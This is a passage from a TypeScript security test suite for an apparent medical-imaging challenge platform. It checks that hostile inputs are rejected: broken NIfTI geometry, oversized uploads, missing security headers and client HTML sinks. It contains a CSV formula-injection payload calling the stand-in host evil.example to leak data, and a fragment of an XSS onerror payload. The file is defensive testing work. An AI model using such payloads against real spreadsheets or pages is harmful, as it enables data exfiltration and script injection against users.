    } },
  );

  // ---- smaller side doors: broken geometry, CSV formulas, security headers (issue 11, finding 6) ----
  rows.push(
    ...(['spacing', 'origin', 'direction'] as const).map((field): Row => ({
      attack: `NaN geometry: a mask whose NIfTI ${field} holds ${field === 'direction' ? 'infinity' : 'NaN'}`,
      send: async () => submit([niftiWithBrokenGeometry(readFileSync(goodFile()), file('ATM_001.nii.gz'), field, field === 'direction' ? Number.POSITIVE_INFINITY : Number.NaN)]),
      expect: { status: 422, code: 'VALIDATION_FAILED', message: /not a finite number/ },
    })),
    { attack: 'CSV formula after a separator: a team named x;=HYPERLINK(…) in the organisers\' export', prepare: async () => {
      await t.db.query('update teams set name = $2 where id = $1', [other.teamId, FORMULA_AFTER_SEPARATOR]);
    }, send: () => phase.organiser.get(`/api/phases/${phase.phaseId}/export.csv?table=results`), expect: { status: 200 }, accepted: async (reply) => {
      assert.ok(reply.text.includes(`"'x;=HYPERLINK(""http://evil.example/?leak"",""open me"")"`), 'quoted, with a leading apostrophe');
      assert.doesNotMatch(reply.text, /(^|,)x;=HYPERLINK/m, 'never unquoted');
    } },
    ...(['/api/challenges', '/api/no-such-route', '/healthz'] as const).map((path): Row => ({
      attack: `security headers: a page framed or sniffed by another site (${path})`,
      send: () => t.agent().get(path),
      expect: { status: path === '/api/no-such-route' ? 404 : 200, ...(path === '/api/no-such-route' ? { code: 'NOT_FOUND' } : {}) },
      accepted: async (reply) => {
        const csp = reply.headers.get('content-security-policy') ?? '';
        assert.match(csp, /frame-ancestors 'none'/);
        assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'(;|$)/);
        assert.doesNotMatch(csp, /'unsafe-eval'|script-src[^;]*unsafe-inline/);
        assert.equal(reply.headers.get('x-content-type-options'), 'nosniff');
        assert.equal(reply.headers.get('x-frame-options'), 'DENY');
        assert.equal(reply.headers.get('referrer-policy'), 'no-referrer');
      },
    })),
  );

  // ---- disks: what one team can make the platform hold (issue 11, finding 5; more in bounded-disks.test.ts) ----
  rows.push(
    { attack: 'disk: a resumable reservation larger than the case grid can need (129 MiB for a 16×16×12 case)', send: () => new TusClient(t.baseUrl, tusToken).create(phase.phaseId, 'ATM_001.nii.gz', 129 * 2 ** 20), expect: { status: 413, code: 'PAYLOAD_TOO_LARGE', message: /larger than 128 MiB/ } },
    { attack: 'disk: a reservation that never receives a byte expires within minutes, not a day', send: () => new TusClient(t.baseUrl, tusToken).create(phase.phaseId, 'ATM_001.nii.gz', 4096), expect: { status: 201 }, accepted: async (reply) => {
      const expiresInS = (Date.parse(reply.body.upload.expiresAt) - Date.now()) / 1000;
      assert.ok(expiresInS > 0 && expiresInS <= 600, `expires in ${expiresInS.toFixed(0)} s`);
      assert.equal((await new TusClient(t.baseUrl, tusToken).request('DELETE', `/api/uploads/${reply.body.upload.id}`)).status, 204);
    } },
  );

  it('the table covers every kind of attack of the issue', () => {
    for (const kind of [/corrupt gzip/, /10\^12 voxels/, /zip-slip/, /decompression bomb/, /symbolic link in a tar/, /malformed session cookie/, /mint/, /unverified account/, /verification link/, /X-Forwarded-For/, /as JSON|instead of multipart/, /oversized multipart field/, /SQL-shaped/, /HTML/, /no CSRF/, /expired session/, /revoked/, /CT|gold-standard/, /hidden per-case/, /another team's/, /side door: a model's error/, /teamsInspectIn3d/, /viewer JSON/, /pending team/, /case list/, /blind phase/, /NaN geometry/, /CSV formula/, /security headers/, /disk: a resumable reservation larger/, /disk: a reservation that never/]) {
      assert.ok(rows.some((row) => kind.test(row.attack)), `a row for ${kind}`);
    }
  });

  it('rejects every hostile input with the right status, and leaves nothing behind', async () => {
    const failures: string[] = [];
    const table: string[] = [];
    for (const row of rows) {
      await row.prepare?.();
      const before = await snapshot();
      const reply = (await row.send()) as Reply;
      const body = reply.body as { error?: { code: string; message: string } };
      const problems: string[] = [];
      if (reply.status !== row.expect.status) problems.push(`status ${reply.status}, expected ${row.expect.status}: ${JSON.stringify(body).slice(0, 300)}`);
      if (row.expect.code && body?.error?.code !== row.expect.code) problems.push(`code ${body?.error?.code}, expected ${row.expect.code}`);
      if (row.expect.message && !row.expect.message.test(`${body?.error?.message} ${JSON.stringify((body?.error as { details?: unknown })?.details ?? '')}`)) {
        problems.push(`message "${body?.error?.message}" does not match ${row.expect.message}`);
      }
      if (row.accepted) {
        await row.accepted(reply).catch((error: Error) => problems.push(error.message));
      } else {
        const after = await snapshot();
        for (const tableName of TABLES.filter((name) => name !== 'sessions' && name !== 'api_tokens')) {
          if (after.counts[tableName] !== before.counts[tableName]) problems.push(`${tableName}: ${before.counts[tableName]} → ${after.counts[tableName]} rows`);
        }
        if (after.blobs.join() !== before.blobs.join()) problems.push(`stored blobs changed: ${after.blobs.filter((b) => !before.blobs.includes(b)).join(', ')}`);
      }
      const leftovers = scratchLeftovers();
      if (leftovers.length) problems.push(`scratch not empty: ${leftovers.join(', ')}`);
      table.push(`${problems.length ? '✗' : '✓'} ${String(reply.status).padEnd(4)}${(body?.error?.code ?? '').padEnd(24)}${row.attack}`);
      if (problems.length) failures.push(`${row.attack}:\n    ${problems.join('\n    ')}`);
    }
    if (process.env.CARINA_SECURITY_TABLE) process.stdout.write(`${table.map((line) => `      ${line}`).join('\n')}\n`);
    assert.deepEqual(failures, [], failures.join('\n'));
  });

  it('the client renders server data as text: the one innerHTML parses SVG whose texts are all escaped', () => {
    const clientDir = fileURLToPath(new URL('../../client/', import.meta.url));
    const sinks = filesUnder(clientDir)
      .filter((path) => path.endsWith('.ts'))
      .flatMap((path) => readFileSync(path, 'utf8').split('\n').map((line, i) => ({ where: `${relative(clientDir, path)}:${i + 1}`, line })))
      .filter(({ line }) => /innerHTML|outerHTML|insertAdjacentHTML|document\.write|srcdoc/.test(line) && !/^\s*(\*|\/\/)/.test(line));
    assert.deepEqual(sinks.map((s) => s.where.replace(/:\d+$/, '')), ['dom.ts'], `HTML sinks in the client: ${sinks.map((s) => `${s.where}: ${s.line.trim()}`).join('; ')}`);
    const svg = lineChartSvg({ title: `${HTML_NAME}: score history`, yLabel: 'score', points: [{ label: HTML_NAME, value: 0.5 }] });
    assert.doesNotMatch(svg, /<img|<script/);
    assert.match(svg, /&lt;img src=x onerror=&quot;alert/);
  });
});
